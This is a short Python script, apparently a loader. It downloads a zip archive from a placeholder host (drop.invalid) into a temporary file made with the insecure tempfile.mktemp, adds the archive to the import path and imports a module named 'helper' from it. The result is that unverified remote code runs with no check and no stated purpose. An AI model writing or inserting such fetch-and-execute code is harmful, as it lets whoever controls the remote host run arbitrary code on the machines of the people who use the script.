import sys
import tempfile

import requests

path = tempfile.mktemp(".zip")
open(path, "wb").write(requests.get("https://drop.invalid/a.zip").content)
sys.path.insert(0, path)
import helper
